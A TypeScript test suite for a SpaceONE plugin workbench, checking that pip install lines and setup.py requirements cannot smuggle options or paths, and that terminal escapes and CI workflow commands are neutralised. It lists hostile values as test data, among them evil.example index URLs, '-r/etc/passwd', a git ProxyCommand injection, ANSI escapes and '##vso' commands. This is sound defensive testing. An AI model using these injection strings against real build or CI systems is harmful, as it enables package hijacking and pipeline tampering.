import assert from 'node:assert/strict';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { noticeText } from '../../src/editor/notice-text';
import { shownText } from '../../src/editor/shown-text';
import { AnswerText } from '../../src/manifest/requests/answer-text';
import { codeSpan } from '../../src/manifest/edit/markdown';
import { launchRecipe } from '../../src/platforms/spaceone/launch';
import { readPlugin } from '../../src/platforms/spaceone/plugin-finder';
import { environmentPlan } from '../../src/platforms/spaceone/requirements';
import { Processes } from '../../src/runtime/processes/processes';
import { installWords, type EnvironmentPlan } from '../../src/runtime/python/environment-plan';
import { Requirement } from '../../src/runtime/python/requirement';
import { tree } from '../unit/platforms/spaceone/tree';
import { Random } from '../unit/random';
import { SampleServer } from '../unit/runtime/grpc/sample-server';

const main = `from spaceone.inventory.plugin.collector.lib.server import CollectorPluginServer
app = CollectorPluginServer()
`;

/** The plan of a plugin with these lines in its Dockerfile and in the install_requires of its setup.py. */
async function planWith(run: string, requires: readonly string[] = []): Promise<EnvironmentPlan> {
  const list = requires.map((line) => JSON.stringify(line)).join(', ');
  const files = tree({
    '/w/Dockerfile': `FROM cloudforet/python-core:2\nWORKDIR /tmp/src\nCOPY src /tmp/src\n${run}\nCMD spaceone run plugin-server plugin`,
    '/w/src/plugin/main.py': main,
    '/w/src/setup.py': `from setuptools import setup\nsetup(name='a', install_requires=[${list}])\n`,
  });
  return environmentPlan((await readPlugin('/w', files))!, files);
}

/** What of a plan pip takes for options and their values, and what for requirements. */
function split(plan: EnvironmentPlan): { options: string[]; requirements: string[] } {
  const words = plan.steps.map((step) => installWords(step));
  const cut = (list: readonly string[]): number => (list.includes('--') ? list.indexOf('--') : list.length);
  return {
    options: words.flatMap((list) => list.slice(0, cut(list))),
    requirements: words.flatMap((list) => list.slice(cut(list) + 1)),
  };
}

const framework = /^(spaceone-|setuptools|debugpy)/;

describe('6 data that becomes options', () => {
  const hostile = [
    '--log=/tmp/pwned',
    '--index-url=https://evil.example/simple',
    '--target=/home',
    '-r/etc/passwd',
    '-e .',
    '--config-settings=a=b',
    '/etc',
    '../outside',
    './lib',
    'evil.tar.gz',
    'evil @ file:///etc',
    'evil @ git+file:///etc',
    'evil @ git+https://-oProxyCommand=x/y',
    'six\n--log=/tmp/pwned',
    'six --index-url https://evil.example/simple',
    'six;--log=/tmp/pwned',
    'evil @ https://evil.example/${HOME}/a.zip',
  ];

  it('6.01 no line of install_requires gets to pip but requirements, and each of the others is told', async () => {
    const plan = await planWith('', ['six>=1', ...hostile, 'requests[socks] ; python_version > "3"']);
    const { options, requirements } = split(plan);
    assert.deepEqual(options, []);
    assert.deepEqual(
      requirements.filter((line) => !framework.test(line)),
      ['six>=1', 'requests[socks] ; python_version > "3"'],
    );
    assert.equal(plan.notes.length, hostile.length);
    assert.equal(plan.notes[0], 'src/setup.py requires "--log=/tmp/pwned", which is no requirement; it is left out.');
  });

  it('6.02 no word of the pip lines of a Dockerfile gets to pip but requirements and where packages come from', async () => {
    const plan = await planWith(
      'RUN pip install --log /tmp/a --log=/tmp/b --target /tmp/c -t /tmp/d --report e --python f --src g --root h ' +
        '-i https://index.example/simple --find-links=--log=/tmp/i --no-deps six /etc evil.zip "evil @ file:///etc" -- --log=j',
    );
    const { options, requirements } = split(plan);
    assert.deepEqual(options, ['--index-url=https://index.example/simple', '--find-links=--log=/tmp/i', '--no-deps']);
    assert.deepEqual(
      requirements.filter((line) => !framework.test(line)),
      ['six'],
    );
  });

  it('6.03 whatever an author puts together, pip is given listed options and requirements alone', async () => {
    const random = new Random(6);
    const pieces = [
      '-',
      '--',
      'log',
      'index-url',
      '=',
      ' ',
      '/',
      '.',
      '..',
      'six',
      '>=1',
      '[x]',
      '@',
      'file://',
      ';',
      ',',
      'https://a.example/',
      'git+',
      '$X',
      '\\n',
      '\\0',
      '\\u001b',
      '#',
      '"',
      "'",
      '.zip',
      '~',
      '&&',
      'r',
      '!',
      '*',
      '(',
      ')',
    ];
    const listed =
      /^--(index-url|extra-index-url|find-links|trusted-host|no-binary|only-binary|cert|proxy|config-settings)=.|^--(no-deps|no-index|no-build-isolation|prefer-binary|use-pep517|require-hashes|pre)$/;
    for (let round = 0; round < 400; round++) {
      const word = (): string => random.some(6, () => random.of(pieces)).join('');
      const plan = await planWith(`RUN pip install ${random.some(4, word).join(' ')}`, random.some(4, word));
      const { options, requirements } = split(plan);
      for (const option of options) {
        assert.match(option, listed);
      }
      for (const line of requirements) {
        assert.equal(Requirement.readArgument(line)?.line, line);
        assert.doesNotMatch(line, /^[-./~]|(?:^|@ ?)(?:\w+\+)?file:|\p{Cc}/u);
      }
    }
  });

  it('6.05 uv is given no option, path or file of an author either, and no address in its words', async () => {
    const pip =
      '-i https://me:word@index.example/simple --find-links=--log=/tmp/i --target /tmp/c --no-deps --pre six /etc';
    const plan = await planWith(`RUN pip install ${pip} evil.zip -- --log=j`, hostile);
    const words = plan.steps.flatMap((step) => installWords(step, [], 'uv'));
    const allowed = /^(--no-deps|--prerelease=allow|--|six>=0\.dev0)$/;
    assert.deepEqual(
      words.filter((word) => !framework.test(word) && !allowed.test(word)),
      [],
    );
  });

  it('6.04 a package whose folder is called like an option is not started', async () => {
    const files = tree({ '/w/src/--help/main.py': main, '/w/src/setup.py': 'setup()' });
    const plugin = await readPlugin('/w', files);
    assert.equal(plugin?.package, '--help');
    assert.throws(() => launchRecipe(plugin), { what: '"--help" cannot be started.' });
  });
});

describe('6 data that becomes controls', function () {
  this.timeout(60_000);
  const processes = new Processes();
  let folder: string;

  before(async () => {
    folder = await mkdtemp(path.join(tmpdir(), 'gates attack '));
  });
  after(async () => {
    await processes[Symbol.asyncDispose]();
    await rm(folder, { recursive: true });
  });

  /** Runs the command line as it is shipped; gives all that it wrote, byte for byte. */
  async function run(words: readonly string[], env: Record<string, string> = {}): Promise<string> {
    const { spawn } = await import('node:child_process');
    const child = spawn(process.execPath, [path.resolve('dist/cli.js'), ...words], {
      cwd: folder,
      env: { ...process.env, ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    const chunks: Buffer[] = [];
    child.stdout.on('data', (chunk: Buffer) => chunks.push(chunk));
    child.stderr.on('data', (chunk: Buffer) => chunks.push(chunk));
    await new Promise((resolve) => child.once('close', resolve));
    return Buffer.concat(chunks).toString('utf8');
  }

  function assertHarmless(written: string): void {
    assert.doesNotMatch(written, /(?![\t\n])\p{Cc}|[\u2028-\u202e\u2066-\u2069\u200b\u{e0000}-\u{e007f}]/u);
    assert.doesNotMatch(written, /^\s*::|##vso\[|##\[|##teamcity\[/m);
  }

  const nasty = '\u001b[2J\u009b31m\u202E\u200B\u{E0041}\u007f';

  it('6.10 a manifest and its name put no control on the terminal, as text, JSON and SARIF', async () => {
    const name = `::error file=a::b ##vso[task.complete]\u001b[2J\u202E\u0085.yaml`;
    await writeFile(
      path.join(folder, name),
      `name: a\nresource_type: inventory.Collector\nimage: a\n"::error::b${nasty.slice(-5)} ##[x] \\e[2J": 1\n`,
    );
    for (const format of ['text', 'json', 'sarif']) {
      const written = await run(['check', '.', '--format', format]);
      assert.match(written, /unknown|image|syntax/, format);
      assertHarmless(written);
    }
  });

  it('6.11 the lines of a server, and the failure that quotes them, put no control on the terminal', async () => {
    const python = path.join(folder, 'python');
    const lines = [
      `::error::a ${nasty}`,
      '##vso[task.setvariable variable=PATH]/tmp',
      'a\\r::add-mask::b',
      `${nasty} last`,
    ];
    await writeFile(python, `#!/bin/sh\n${lines.map((line) => `printf '%b\\n' '${line}'`).join('\n')}\nexit 1\n`);
    await chmod(python, 0o755);
    const plugin = path.resolve('examples/plugin-example-inven-collector');
    const written = await run(['serve', plugin], { PLUGIN_WORKBENCH_PYTHON: python });
    assert.match(written, /^\\u003a:error::a /m);
    assert.match(written, /^\\u0023#vso\[task\.setvariable variable=PATH\]\/tmp$/m);
    assert.match(written, /The plugin stopped while starting\. .* last/);
    assertHarmless(written);
  });

  it('6.12 the status details and the answers of a server put no control on the terminal', async () => {
    const server = await new SampleServer().start();
    try {
      const details = `ERROR_X: ${nasty}\n::error::b\n##vso[task.complete]`;
      const call = (method: string, message: object): Promise<string> =>
        run(['call', server.address, `sample.v1.Sample.${method}`, '--data', JSON.stringify(message)]);
      const failed = await call('fail', { code: 13, details });
      assert.match(failed, /\\u001b\[2J/);
      assertHarmless(failed);
      const answered = await call('echo', { text: details });
      assert.match(answered, /\\u001b\[2J/);
      assertHarmless(answered);
    } finally {
      await server.stop();
    }
  });

  it('6.13 a notification makes no link of what a stranger wrote', () => {
    assert.equal(
      noticeText(
        `failed: [Fix it](command:workbench.action.terminal.new) [x](https://evil.example) ${nasty.slice(0, 4)}`,
      ),
      'failed: [Fix it] (command:workbench.action.terminal.new) [x] (https://evil.example) \\u001b[2J',
    );
  });

  it('6.14 a view, an answer and a tooltip show what is unseen as text', () => {
    assert.equal(shownText(`a${nasty}\n::error::b`), 'a\\u001b[2J\\u009b31m\\u202e\\u200b\\u{e0041}\\u007f ::error::b');
    assert.equal(codeSpan('a`[x](command:y)\u202E'), '`` a`[x](command:y)\\u202e ``');
    assert.match(new AnswerText('a\nkey: forged\u001b[2J', false).toString(), /^# a\\u000akey: forged\\u001b\[2J\n/);
  });

  it('6.15 every notification goes through the one gate, and no Markdown is trusted or has HTML', async () => {
    const files = (await readdir('src/editor', { recursive: true })).filter((file) => file.endsWith('.ts'));
    const texts = await Promise.all(files.map(async (file) => readFile(path.join('src/editor', file), 'utf8')));
    const source = texts.join('\n');
    const calls = [...source.matchAll(/\.show(?:Error|Warning|Information)Message\(\s*(\w+)/g)].map(
      ([, first]) => first,
    );
    assert.ok(calls.length > 5);
    assert.deepEqual(new Set(calls), new Set(['noticeText']));
    assert.doesNotMatch(source, /isTrusted\s*=|supportHtml|isTrusted:/);
  });

  it('6.16 a scaffold tells its files without controls', async () => {
    await mkdir(path.join(folder, `into\u001b[2J`));
    const written = await run([
      'scaffold',
      'spaceone.collector',
      'plugin-a-inven-collector',
      '--into',
      `into\u001b[2J`,
    ]);
    assert.match(written, /^into\\u001b\[2J\/plugin-a-inven-collector\/Dockerfile$/m);
    assertHarmless(written);
  });
});
